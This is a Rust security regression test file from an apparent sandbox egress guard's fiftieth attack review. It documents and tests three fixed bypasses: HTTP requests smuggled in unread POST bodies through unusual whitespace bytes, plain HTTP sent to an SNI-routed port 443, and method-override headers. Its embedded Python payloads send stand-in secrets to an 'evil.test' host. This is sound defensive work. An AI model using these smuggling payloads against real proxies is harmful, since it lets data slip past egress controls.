//! A fiftieth attack review, run as the process inside a `sandbox run` sandbox (uid 65534,
//! arbitrary Python) of a guarded policy, against the real agent, kernel and egress guard,
//! with dnsmasq and the servers of a shared address on the test namespace's `lo`. Each
//! test counts what reached the far side and prints a `figure:` line.
//!
//! Angle: the egress guard's plain-HTTP judgement (issue 15: every request on a
//! kept-alive connection judged, only `readonly_methods` unless the host is in
//! `write_domains`), attacked where the guard and a real server — Python's
//! `http.server`, as small services are written — disagree on where a request begins.
//! The world: 203.0.113.10 serves `allowed.test`, `write.test` and `evil.test` (the
//! attacker's) on port 80, routing each request by its `Host` ([`SHARED_PY`]); policy
//! `web` allows `allowed.test` and `write.test` and writes to `write.test` only.
//!
//! Found (each fails against 061f73e):
//! - a request hidden in the body of a POST to the write host, which a handler answers
//!   (401) without reading. The guard had two defences (attack reviews 6 and 34): it
//!   marks a request with a body `Connection: close`, and it resets the connection when
//!   the body's first line reads as a request line (`http_rules::body_start`). Both
//!   disagreed with the server. The guard kept the client's other `Connection` options
//!   (`Connection: close, te`), and Python's `http.server` closes only on a value that is
//!   exactly `close`: it kept the connection and read the body as the next request. And
//!   `body_start` split the line on ASCII white space only and wanted three words ending
//!   in `HTTP/`, while Python splits on every white space of the line decoded as Latin-1
//!   (`\x0b`, `\x1c`–`\x1f`, `\x85`, `\xa0` too) and takes a two-word `GET /path` as an
//!   HTTP/0.9 request — whose headers it still reads, `Host` included. On 061f73e, 4 of 4
//!   hidden requests reached evil.test's virtual host (one HTTP/0.9, three HTTP/1.1) and
//!   1 of 1 hidden POST reached the read-only `allowed.test`
//!   ([`a_request_in_an_unread_body_reaches_no_other_host_whatever_the_connection_header_holds`]).
//!   Now a request with a body goes with exactly `Connection: close` (the client's other
//!   options dropped: `http::with_connection_close`), and a body's first line is split as
//!   Python splits it, a two-word `GET` line counting as a request (`body_start`, shared
//!   with the broker, which refuses such a body too): 0 of 4 and 0 of 1, each connection
//!   reset.
//! - plain HTTP to port 443 of a front that routes TLS by SNI without terminating it
//!   (HAProxy 2.6, `mode tcp`, `req_ssl_sni`, attack review 44's front): the guard judged
//!   the request by its `Host` (`allowed.test`, validated; a GET) and passed it; the
//!   front found no SNI and handed the connection to its default backend, `evil.test`'s.
//!   On 061f73e the request (path and headers, the exfiltration channel) reached
//!   evil.test's backend 1 of 1 and its answer came back through the guard
//!   ([`plain_http_to_an_https_port_never_reaches_the_fronts_default_backend`]). Now the
//!   ports whose convention fixes the protocol pass only it (`decide::port_speaks`: 443,
//!   8443, 2053, 2083, 2087, 2096 TLS; 80, 8080, 8880, 2052, 2082, 2086, 2095 plain
//!   HTTP): a 403 `not_tls_or_http`, 0 of 1.
//! - a GET to the read-only `allowed.test` with `X-HTTP-Method-Override: DELETE` (or
//!   `put`): the guard judged the request line's GET; a framework that reads the override
//!   on any method (Slim 4's `MethodOverrideMiddleware`; the test's server does as it
//!   does) acted as DELETE and PUT: 2 of 2 writes at the read-only host on 061f73e. The
//!   broker refused these headers already; the guard read none. Now every method an
//!   override header names (`http_rules::METHOD_OVERRIDE_HEADERS`) is judged like the
//!   request line's: 403 `method_denied`, 0 of 2
//!   ([`a_method_override_on_a_read_never_writes_to_a_read_only_host`]).
//!
//! Held, tried by hand (Python 3.11): `http.client.parse_headers` splits header lines
//! only at CR and LF (`\x85`, `\x1c` stay in a value), so no `Host` hides in another
//! field's value for Python; httparse refuses `\x0b` and other controls in a field value.
//!
//! Still open (not fixed here): on a guarded port outside that table (more
//! `guard_ports`, `guard_all_ports`) either protocol passes, so a front there that routes
//! TLS by SNI still gets a plain request without a name; `body_start` follows Python's
//! and nginx's request-line readers, not every server's (one that reads a request line
//! split by other bytes, or a one-word line, would still take a body the guard passed
//! for a request, and only `Connection: close` stands between); a `_method` query
//! parameter on a GET is not read (the frameworks that honour `_method` read it on a POST
//! only, which goes to a write host anyway).
//!
//! Everything lives in the test's own network namespace, addresses on `lo`.

use std::{
    fs,
    path::{Path, PathBuf},
    thread,
};

use hb_tests::{
    TestEnv,
    upstream::Dnsmasq,
    worlds::{
        RecordingPython, SHARED_HTTP_PRELUDE, attack_as, names_on_lo, reached_evil,
        resolver_config, started_agent, writes_elsewhere,
    },
};
use serde_json::Value;

const DNS_PORT: u16 = 5550;
const SHARED: &str = "203.0.113.10";

/// The plain-HTTP servers of the shared address, written as small services are (Python's
/// `http.server`, HTTP/1.1 keep-alive). Every request is routed by its `Host` and logged
/// as one JSON line (`vhost`, `method`, `path`, `version`, and `conn`: the `Connection`
/// header as the server read it). `POST /auth…` is refused (401) before its body is read,
/// as a handler that checks credentials first does; the body stays on the connection.
/// Other writes read their body (`Content-Length`). A GET with `X-HTTP-Method-Override`
/// acts as the method it names, as Slim 4's `MethodOverrideMiddleware` does.
const SHARED_PY: &str = r#"
import http.server, json, sys, threading
addr, log = sys.argv[1:3]
lock = threading.Lock()
def record(rec):
    with lock:
        with open(log, "a") as f:
            f.write(json.dumps(rec) + "\n")
def norm(host):
    return (host or "").strip().lower().rsplit(":", 1)[0].rstrip(".")
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def reply(self, code, read_body):
        if read_body:
            self.rfile.read(int(self.headers.get("content-length") or 0))
        record({"vhost": norm(self.headers.get("host")), "method": self.command,
                "path": self.path, "version": self.request_version,
                "conn": self.headers.get("connection")})
        out = ("%s %s %s\n" % (norm(self.headers.get("host")), self.command, self.path)).encode()
        self.send_response(code)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(out)
    def do_GET(self):
        # Slim 4's MethodOverrideMiddleware: the header names the method, whatever the
        # request line's. Read as a WSGI/CGI gateway names headers (`HTTP_` + upper case,
        # `-` as `_`, Werkzeug's MethodOverride reads the environ so): an underscore
        # spelling is the same header.
        override = next((v for k, v in self.headers.items()
                         if k.upper().replace("-", "_") == "X_HTTP_METHOD_OVERRIDE"), "")
        override = override.strip().upper()
        if override and override != self.command:
            self.command = override
            return getattr(self, "do_" + self.command)()
        self.reply(200, False)
    do_HEAD = do_GET
    def do_POST(self):
        if self.path.startswith("/auth"):
            return self.reply(401, False)
        self.reply(200, True)
    do_PUT = do_PATCH = do_DELETE = do_POST
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, request, client_address): pass
plain = S((addr, 80), H)
threading.Thread(target=plain.serve_forever, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#;

struct World {
    env: TestEnv,
    shared: RecordingPython,
    _dns: Dnsmasq,
    dir: PathBuf,
}

impl World {
    fn new(name: &str) -> Self {
        let dns = names_on_lo(
            &[SHARED, "192.0.2.53"],
            DNS_PORT,
            &[
                ("allowed.test", &[SHARED]),
                ("write.test", &[SHARED]),
                ("evil.test", &[SHARED]),
            ],
            60,
        );
        let dir =
            std::env::temp_dir().join(format!("hb-review50-{name}-{}", hb_tests::random_suffix()));
        fs::create_dir_all(&dir).expect("test folder");
        let shared = RecordingPython::start(
            SHARED_PY,
            SHARED,
            &dir.join("shared.jsonl"),
            &[] as &[&Path],
        );
        let config = format!(
            r#"{resolver}
[[policy]]
name = "web"
allow_domains = ["allowed.test", "write.test"]
write_domains = ["write.test"]
guard = true
guard_ports = [80, 443]
"#,
            resolver = resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"]),
        );
        let env = started_agent(name, &config);
        Self {
            env,
            shared,
            _dns: dns,
            dir,
        }
    }

    /// Runs a Python script in a `web` sandbox as uid 65534, its DNS through hb's
    /// resolver, after [`SHARED_HTTP_PRELUDE`].
    fn attack(&self, body: &str) -> String {
        attack_as(&self.env, "web", &format!("{SHARED_HTTP_PRELUDE}\n{body}"))
    }
}

impl Drop for World {
    fn drop(&mut self) {
        if !thread::panicking() {
            let _ = fs::remove_dir_all(&self.dir);
        }
    }
}

/// FINDING R50-1 (fixed). A POST to `write.test` (a host the policy may write to) whose
/// handler answers 401 without reading the body, with a `Connection` header naming an
/// option (`te`, `x-keep`), the body a request for evil.test (or a write to the
/// read-only allowed.test) that the guard did not take for one: a two-word HTTP/0.9
/// `GET /path` line, or a request line whose words are separated (or led) by a byte
/// Python counts as white space and Rust's ASCII test does not (`\x0b`, `\x1c`, `\xa0`).
/// The guard forwarded `Connection: close, te`, which Python's `http.server` reads as
/// keep-alive, and the server read the body as the next request. Controls: a JSON body
/// and a text body with `Connection: te` still pass, and the server reads exactly
/// `Connection: close` on every request with a body.
#[test]
fn a_request_in_an_unread_body_reaches_no_other_host_whatever_the_connection_header_holds() {
    let w = World::new("r50body");
    let out = w.attack(
        r#"
def post(path, body, conn=b"te"):
    return (b"POST " + path + b" HTTP/1.1\r\nHost: write.test\r\nConnection: " + conn + b"\r\n" +
            b"TE: trailers\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
cases = {
    "control_json": post(b"/data1", b'{"a": 1}'),
    "control_text": post(b"/data2", b"hello world\nGET is a verb\n"),
    "http09": post(b"/auth1", b"GET /exfil-09?data=s3cr3t\r\nHost: evil.test\r\n\r\n"),
    "vtab": post(b"/auth2", b"GET\x0b/exfil-vt?data=s3cr3t\x0bHTTP/1.1\r\nHost: evil.test\r\n\r\n", b"x-keep"),
    "fs_lead": post(b"/auth3", b"\x1cGET /exfil-fs?data=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "nbsp": post(b"/auth4", b"GET\xa0/exfil-nbsp?data=s3cr3t\xa0HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "write_ro": post(b"/auth5", b"POST\x0b/w\x0bHTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n"),
}
for label, data in cases.items():
    print(label, exchange(data), flush=True)
"#,
    );
    let records = w.shared.settle(|r| r["path"] == "/auth5");
    let evil = reached_evil(&records);
    let elsewhere = writes_elsewhere(&records);
    println!(
        "figure: requests at evil.test: {} of 4, writes to the read-only host: {} of 1\n{out}",
        evil.len(),
        elsewhere.len()
    );
    for control in ["/data1", "/data2"] {
        assert!(
            records.iter().any(|r| r["path"] == control),
            "the control {control} arrived: {records:?}\n{out}"
        );
    }
    assert_eq!(
        evil,
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
    assert_eq!(
        elsewhere,
        Vec::<&Value>::new(),
        "a write reached a read-only host: {out}"
    );
    let posts: Vec<&Value> = records.iter().filter(|r| r["method"] == "POST").collect();
    assert!(
        posts.len() >= 2,
        "the POSTs reached the server: {records:?}\n{out}"
    );
    for post in &posts {
        assert_eq!(
            post["conn"], "close",
            "a request with a body reaches the server marked exactly `Connection: close`: {post}"
        );
    }
}

/// The backends behind the shared front ([`HAPROXY_CFG`]), on 127.0.0.1: raw sinks for
/// `allowed.test` (9003) and `evil.test` (9004), each recording the first bytes of a
/// connection (`backend`, `data` as Latin-1) and answering them with a small HTTP
/// response naming itself, as the attacker's own server on the front would.
const SINKS_PY: &str = r#"
import json, socket, sys, threading
_, log = sys.argv[1:3]
lock = threading.Lock()
def record(rec):
    with lock:
        with open(log, "a") as f:
            f.write(json.dumps(rec) + "\n")
def sink(name, port):
    l = socket.socket()
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("127.0.0.1", port))
    l.listen(64)
    def one(c):
        c.settimeout(2)
        try:
            got = c.recv(65536)
        except OSError:
            got = b""
        record({"backend": name, "data": got.decode("latin-1")})
        out = ("from %s\n" % name).encode()
        try:
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(out) + out)
        except OSError:
            pass
        c.close()
    def serve():
        while True:
            c, _ = l.accept()
            threading.Thread(target=one, args=(c,), daemon=True).start()
    threading.Thread(target=serve, daemon=True).start()
sink("allowed.test", 9003)
sink("evil.test", 9004)
print("ready", flush=True)
threading.Event().wait()
"#;

/// The shared front on 443: HAProxy routing TLS by SNI without terminating it (`mode
/// tcp`, `req_ssl_sni`), as its documentation shows, the default backend `evil.test`'s
/// (attack review 44's front). Port 80 refuses every connection: it is bound only so the
/// test can see HAProxy listening.
const HAPROXY_CFG: &str = "
defaults
  timeout connect 2s
  timeout client 10s
  timeout server 10s
frontend probe
  mode tcp
  bind 203.0.113.10:80
  tcp-request connection reject
frontend tls
  mode tcp
  bind 203.0.113.10:443
  tcp-request inspect-delay 2s
  tcp-request content accept if { req_ssl_hello_type 1 }
  use_backend allowed_tls if { req_ssl_sni -i allowed.test }
  use_backend evil_tls if { req_ssl_sni -i evil.test }
  default_backend evil_tls
backend allowed_tls
  mode tcp
  server s 127.0.0.1:9003
backend evil_tls
  mode tcp
  server s 127.0.0.1:9004
";

/// HAProxy in the foreground on [`HAPROXY_CFG`] (written in `dir`), killed on drop.
struct Front(std::process::Child);

impl Front {
    fn start(dir: &Path) -> Self {
        use std::time::{Duration, Instant};
        let cfg = dir.join("haproxy.cfg");
        fs::write(&cfg, HAPROXY_CFG).expect("haproxy.cfg");
        let child = std::process::Command::new("haproxy")
            .arg("-db")
            .arg("-f")
            .arg(&cfg)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("haproxy (cargo xtask setup installs it)");
        let front = Self(child);
        // HAProxy binds every listener before it serves any; port 80 is probed (a probe
        // of 443 would reach the default backend as an empty connection).
        let deadline = Instant::now() + Duration::from_secs(10);
        while std::net::TcpStream::connect((SHARED, 80)).is_err() {
            assert!(Instant::now() < deadline, "haproxy never listened");
            thread::sleep(Duration::from_millis(50));
        }
        front
    }
}

impl Drop for Front {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// FINDING R50-2 (fixed). Plain HTTP to port 443 of a front that routes TLS by SNI
/// without terminating it: the guard judged the request by its `Host` (`allowed.test`,
/// validated, a read-only GET) and passed it, but the front finds no SNI in it and hands
/// the connection to its default backend, here `evil.test`'s: the request (path,
/// headers: the exfiltration channel) reached the attacker's server and its answer came
/// back through the guard. Now a port whose convention fixes the protocol passes only
/// that protocol (`decide::port_speaks`: 443 and the CDNs' other HTTPS ports TLS, 80 and
/// their HTTP ports plain HTTP): a 403 `not_tls_or_http`. Control: a TLS ClientHello for
/// `allowed.test` on 443 still reaches `allowed.test`'s backend.
#[test]
fn plain_http_to_an_https_port_never_reaches_the_fronts_default_backend() {
    let dns = names_on_lo(
        &[SHARED, "192.0.2.53"],
        DNS_PORT,
        &[("allowed.test", &[SHARED]), ("evil.test", &[SHARED])],
        60,
    );
    let dir = std::env::temp_dir().join(format!("hb-review50-front-{}", hb_tests::random_suffix()));
    fs::create_dir_all(&dir).expect("test folder");
    let sinks =
        RecordingPython::start::<&Path>(SINKS_PY, "127.0.0.1", &dir.join("sinks.jsonl"), &[]);
    let front = Front::start(&dir);
    let config = format!(
        r#"{resolver}
[[policy]]
name = "web"
allow_domains = ["allowed.test"]
guard = true
"#,
        resolver = resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"]),
    );
    let env = started_agent("r50front", &config);
    let out = attack_as(
        &env,
        "web",
        r#"
import socket, ssl
SHARED = socket.getaddrinfo("allowed.test", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
assert SHARED == "203.0.113.10", SHARED
def recv_all(s):
    out = b""
    s.settimeout(5)
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    return out
s = socket.create_connection((SHARED, 443), timeout=5)
s.sendall(b"GET /exfil-443?data=s3cr3t HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
got = recv_all(s)
s.close()
print("plain443", repr(got.split(b"\r\n")[0]), "evil answered" if b"from evil.test" in got else "-", flush=True)
ctx = ssl.create_default_context()
t = socket.create_connection((SHARED, 443), timeout=5)
try:
    ctx.wrap_socket(t, server_hostname="allowed.test")
    print("control handshake", flush=True)
except (OSError, ssl.SSLError) as e:
    print("control", type(e).__name__, flush=True)
t.close()
"#,
    );
    let records = sinks.settle(|r| r["backend"] == "allowed.test");
    let evil: Vec<&Value> = records
        .iter()
        .filter(|r| r["backend"] == "evil.test")
        .collect();
    let leaked = evil
        .iter()
        .filter(|r| r["data"].as_str().is_some_and(|d| d.contains("s3cr3t")))
        .count();
    println!(
        "figure: plain-HTTP requests at evil.test's backend: {leaked} of 1, connections there: {}\n{out}",
        evil.len()
    );
    assert!(
        records.iter().any(|r| r["backend"] == "allowed.test"),
        "the control ClientHello reached allowed.test's backend: {records:?}\n{out}"
    );
    assert_eq!(leaked, 0, "evil.test's backend got the request: {out}");
    assert!(
        out.contains("plain443 b'HTTP/1.1 403 Forbidden'"),
        "the guard answered 403: {out}"
    );
    let ev = env.wait_event("plain HTTP to 443", |e| {
        e["hook"] == "guard" && e["reason"] == "not_tls_or_http" && e["port"] == 443
    });
    assert_eq!(ev["policy"], "web", "{ev}");
    drop(front);
    drop(dns);
    let _ = fs::remove_dir_all(&dir);
}

/// FINDING R50-3 (fixed). A GET to the read-only `allowed.test` carrying
/// `X-HTTP-Method-Override: DELETE` (or `PUT`, or `X_HTTP_METHOD_OVERRIDE: PATCH`, the
/// same header to a WSGI/CGI gateway): the guard judged the request line's GET
/// and passed it; a server whose framework reads the override on any method (Slim 4's
/// `MethodOverrideMiddleware`) acted as DELETE. The broker refuses these headers; the
/// guard read none. Now every method a method-override header names is judged like the
/// request line's (`method_denied`). Controls: a plain GET, and a GET whose override
/// names GET, pass; an override to the write host passes.
#[test]
fn a_method_override_on_a_read_never_writes_to_a_read_only_host() {
    let w = World::new("r50override");
    let out = w.attack(
        r#"
def get(path, host, extra=b""):
    return b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + extra + b"\r\n"
cases = {
    "control_get": get(b"/read", b"allowed.test"),
    "control_get_as_get": get(b"/read-again", b"allowed.test", b"X-HTTP-Method-Override: GET\r\n"),
    "control_write_host": get(b"/w-delete", b"write.test", b"X-HTTP-Method-Override: DELETE\r\n"),
    "delete": get(b"/o-delete", b"allowed.test", b"X-HTTP-Method-Override: DELETE\r\n"),
    "put_lower": get(b"/o-put", b"allowed.test", b"x-http-method-override: put\r\n"),
    "patch_underscores": get(b"/o-patch", b"allowed.test", b"X_HTTP_METHOD_OVERRIDE: PATCH\r\n"),
}
for label, data in cases.items():
    print(label, exchange(data), flush=True)
"#,
    );
    let records = w.shared.settle(|r| r["path"] == "/o-patch");
    let elsewhere = writes_elsewhere(&records);
    println!(
        "figure: overridden writes at the read-only host: {} of 3\n{out}",
        elsewhere.len()
    );
    for control in ["/read", "/read-again", "/w-delete"] {
        assert!(
            records.iter().any(|r| r["path"] == control),
            "the control {control} arrived: {records:?}\n{out}"
        );
    }
    assert_eq!(
        elsewhere,
        Vec::<&Value>::new(),
        "a write reached a read-only host: {out}"
    );
    let ev = w.env.wait_event("an overridden method", |e| {
        e["hook"] == "guard" && e["reason"] == "method_denied"
    });
    assert_eq!(ev["policy"], "web", "{ev}");
}
